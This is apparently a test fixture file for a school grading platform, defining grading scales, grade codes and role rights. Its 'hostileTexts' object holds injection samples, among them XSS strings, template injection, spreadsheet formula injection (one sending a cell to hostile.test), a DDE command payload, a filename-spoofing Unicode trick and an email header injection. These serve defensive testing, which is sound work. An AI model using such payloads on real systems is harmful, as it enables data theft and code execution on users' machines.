import type { Rights } from '../src/platform/access/guard.ts'
import { permissions } from '../src/platform/access/permissions.ts'
import type { RoleKey } from '../src/platform/access/roles.ts'
import type { gradingScaleKeys } from '../src/platform/lists.ts'
import type { ScaleRules } from '../src/rules/grading.ts'

const codes: ScaleRules['codes'] = [
  { code: 'NG', aliases: ['N'], meaning: 'No Grade', remarks: 'NO GRADE', result: 'ungraded' },
  { code: 'INC', aliases: ['I', 'IN'], meaning: 'Incomplete', remarks: 'INCOMPLETE', result: 'incomplete' },
  { code: 'DR', aliases: ['D'], meaning: 'Dropped', remarks: 'DROPPED', result: 'dropped' },
  { code: 'R', aliases: [], meaning: 'Repeat', remarks: 'REPEAT', result: 'failed' },
]

const collegeDescriptors = [
  [1, '98–100'],
  [1.25, '95–97'],
  [1.5, '92–94'],
  [1.75, '89–91'],
  [2, '86–88'],
  [2.25, '83–85'],
  [2.5, '80–82'],
  [2.75, '77–79'],
  [3, '75–76, Passing'],
  [4, '70–74, Conditional'],
  [5, 'Failed'],
] as const

/** The scales of a new school, for pure tests. An API test compares them with the database. */
export const testScales: Readonly<Record<(typeof gradingScaleKeys)[number], ScaleRules>> = {
  COLLEGE_1_5: {
    key: 'COLLEGE_1_5',
    name: 'College',
    level_type: 'college',
    from_school_year: null,
    better: 'lower',
    decimals: 2,
    pass_mark: 3,
    conditional_to: 4,
    re_exam: 'removal',
    steps: [
      { first: 1, last: 3, step: 0.25 },
      { first: 4, last: 4, step: 1 },
      { first: 5, last: 5, step: 1 },
    ],
    codes,
    descriptors: collegeDescriptors.map(([from_grade, descriptor]) => ({ from_grade, descriptor })),
  },
  HS_60_100: {
    key: 'HS_60_100',
    name: 'High school',
    level_type: 'high_school',
    from_school_year: null,
    better: 'higher',
    decimals: 0,
    pass_mark: 75,
    conditional_to: null,
    re_exam: 'remedial',
    steps: [{ first: 60, last: 100, step: 1 }],
    codes,
    descriptors: [
      { from_grade: 90, descriptor: 'Outstanding' },
      { from_grade: 85, descriptor: 'Very Satisfactory' },
      { from_grade: 80, descriptor: 'Satisfactory' },
      { from_grade: 75, descriptor: 'Fairly Satisfactory' },
      { from_grade: 60, descriptor: 'Did Not Meet Expectations' },
    ],
  },
}

/** Texts that attack whoever shows, mails or exports them. A script among them would set `window.hostile`, or send a request. */
export const hostileTexts = {
  script: '<script>window.hostile=1</script>',
  handler: `"><img src="https://hostile.test/x" onerror='window.hostile=1'>`,
  svg: `'><svg/onload=window.hostile=1>`,
  frame: '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>',
  link: 'javascript:window.hostile=1',
  template: `{{constructor.constructor('window.hostile=1')()}} \${window.hostile=1} <%= 1 %>`,
  formula: '=HYPERLINK("https://hostile.test/?"&A1,"Open")',
  command: `+1+cmd|' /C calc'!A0`,
  minus: '-2+3+cmd',
  at: '@SUM(1+1)',
  rightToLeft: 'Fees \u202Efdp.exe\u202C \u2067end',
  header: 'Hello\r\nBcc: everyone@hostile.test\r\n\r\nHidden',
  longWord: 'W'.repeat(60),
} as const

/** What a role may do by default. */
export function rightsOf(role: RoleKey): Rights {
  const granted = permissions.filter((permission) => (permission.roles as readonly string[]).includes(role))
  return {
    is_admin: role === 'administrator',
    role_permissions: { names: granted.map((permission) => permission.name), url: granted.flatMap((permission) => [...permission.urls]) },
    direct_permissions: [],
  }
}
